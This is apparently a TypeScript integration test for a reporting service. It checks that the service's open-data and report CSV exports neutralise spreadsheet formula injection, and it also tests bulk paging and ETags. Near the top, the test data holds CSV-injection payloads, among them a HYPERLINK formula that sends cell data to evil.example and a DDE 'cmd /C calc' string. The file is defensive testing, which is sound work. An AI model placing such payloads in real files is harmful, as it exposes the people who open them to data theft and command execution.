import type { INestApplication } from '@nestjs/common';
import { NestFactory } from '@nestjs/core';
import { configureHttpApp } from '@dxhub/http';
import {
  AgencyProducer,
  bearer,
  createTestDatabase,
  deleteTopicsWithPrefix,
  openCsvAsSpreadsheet,
  serviceTestEnv,
  type TestDatabase,
  uniqueTopicPrefix,
  waitFor,
} from '@dxhub/testing';
import type { AddressInfo } from 'node:net';
import { ReportingAppModule } from '../../src/app.module';
import { aggregateEvent, indicatorDefined, orgUnitDefined } from '../fixtures';

/*
 * Names that reach the platform's CSVs from agencies and the catalogue, each beginning with a character that makes
 * a spreadsheet read a formula (=HYPERLINK exfiltrates the sheet, +cmd|... ran commands through DDE). Every CSV the
 * platform writes (open data, report exports) is opened as a spreadsheet program would, and no cell is a formula.
 */
const NAME_VI = '=HYPERLINK("http://evil.example/?x="&A2,"Chi tiết")';
const NAME_EN = "@SUM(1+1)*cmd|' /C calc'!A0";
const UNIT = '+1';
const ORG_UNIT_NAME = '-2+3 Thành phố Mỹ Tho';

describe('security: every CSV the platform writes is safe to open in a spreadsheet (reporting)', () => {
  let app: INestApplication;
  let url: string;
  let database: TestDatabase;
  const prefix = uniqueTopicPrefix('csv-injection');

  beforeAll(async () => {
    database = await createTestDatabase('csv-injection');
    Object.assign(process.env, serviceTestEnv(database, prefix), { REPORT_SCHEDULE_INTERVAL_MS: '0' });
    app = await NestFactory.create(ReportingAppModule, { logger: ['error'], abortOnError: false });
    configureHttpApp(app, { name: 'reporting', title: 'reporting', description: 'test', defaultPort: 0, config: [] });
    await app.listen(0, '127.0.0.1');
    url = `http://127.0.0.1:${(app.getHttpServer().address() as AddressInfo).port}`;
    const producer = await AgencyProducer.connect('csv-injection-indicators');
    try {
      await producer.send(`${prefix}dx.indicators.events`, [
        indicatorDefined('EVIL_NAME', {
          nameVi: NAME_VI,
          nameEn: NAME_EN,
          unit: UNIT,
          responsibleAgency: 'STTTT',
          pillar: 'XHS',
          subIndex: 'HT',
          periodType: 'SIX_MONTHLY',
          direction: 'HIGHER_IS_BETTER',
          targets: [],
        }),
        orgUnitDefined('82', 'Tỉnh Tiền Giang', 1, null),
        orgUnitDefined('815', ORG_UNIT_NAME, 2, '82'),
        aggregateEvent('EVIL_NAME', '82', 'Tỉnh Tiền Giang', '2024S2', 1, -7),
        aggregateEvent('EVIL_NAME', '815', ORG_UNIT_NAME, '2024S2', 1, -7),
        aggregateEvent('EVIL_NAME', '815', ORG_UNIT_NAME, '2024S2', 1, -7, 'dx.indicator-aggregate.approved'),
      ]);
    } finally {
      await producer.close();
    }
  });

  afterAll(async () => {
    await app?.close();
    await database?.drop();
    await deleteTopicsWithPrefix(prefix);
  });

  const expectNoFormula = async (csv: string) => {
    const cells = await openCsvAsSpreadsheet(csv);
    expect(cells.filter((c) => c.isFormula)).toEqual([]);
    return cells.map((c) => c.text);
  };

  it('open data: names that would be formulas are text, numbers stay numbers', async () => {
    const csv = await waitFor(
      async () => {
        const text = await (await fetch(`${url}/open-data/aggregates.csv?indicator=EVIL_NAME`)).text();
        return text.includes('EVIL_NAME') ? text : undefined;
      },
      30000,
      'the approved figure',
    );
    const texts = await expectNoFormula(csv);
    expect(texts).toEqual(
      expect.arrayContaining([`'${NAME_VI}`, `'${NAME_EN}`, `'${UNIT}`, `'${ORG_UNIT_NAME}`, '-7']),
    );
  });

  it('report exports: the CSV of a period report has no formula either', async () => {
    await waitFor(
      async () => {
        const res = await fetch(`${url}/v1/scorecard?orgUnit=82&period=2024S2`, {
          headers: bearer({ agency: 'STTTT', roles: ['viewer'] }),
        });
        return res.ok && (await res.text()).includes('EVIL_NAME') ? true : undefined;
      },
      30000,
      'the read models',
    );
    const created = await fetch(`${url}/v1/reports`, {
      method: 'POST',
      headers: { ...bearer({ agency: 'STTTT', roles: ['programme-office'] }), 'content-type': 'application/json' },
      body: JSON.stringify({ period: '2024S2' }),
    });
    expect(created.status).toBe(201);
    const { reportId } = (await created.json()) as { reportId: string };
    const csv = await (
      await fetch(`${url}/v1/reports/${reportId}/csv`, { headers: bearer({ agency: 'STTTT', roles: ['viewer'] }) })
    ).text();
    const texts = await expectNoFormula(csv);
    expect(texts).toEqual(expect.arrayContaining([`'${NAME_VI}`, `'${NAME_EN}`]));
  });

  it('open data streams every approved figure a page at a time: 2,500 rows in CSV and JSON, in key order, with an ETag', async () => {
    const producer = await AgencyProducer.connect('csv-injection-bulk');
    const codes = Array.from({ length: 2500 }, (_, i) => String(30000 + i));
    try {
      await producer.send(
        `${prefix}dx.indicators.events`,
        codes.map((code, i) =>
          aggregateEvent('BULK_HH', code, `Xã ${code}`, '2024S2', 1, i, 'dx.indicator-aggregate.approved'),
        ),
      );
    } finally {
      await producer.close();
    }
    const csv = await waitFor(
      async () => {
        const text = await (await fetch(`${url}/open-data/aggregates.csv?indicator=BULK_HH`)).text();
        return text.trim().split('\r\n').length === 2501 ? text : undefined;
      },
      60000,
      'the 2,500 approved figures',
    );
    const lines = csv.trim().split('\r\n').slice(1);
    expect(lines.map((l) => l.split(',')[4])).toEqual(codes);
    const res = await fetch(`${url}/open-data/aggregates.json?indicator=BULK_HH`);
    const body = (await res.json()) as { license: string; rows: { orgUnit: string; value: number }[] };
    expect(body.rows.map((r) => r.orgUnit)).toEqual(codes);
    expect(body.rows[2499].value).toBe(2499);
    const etag = res.headers.get('etag') ?? '';
    const again = await fetch(`${url}/open-data/aggregates.json?indicator=BULK_HH`, {
      headers: { 'if-none-match': etag },
    });
    expect(again.status).toBe(304);
  });
});
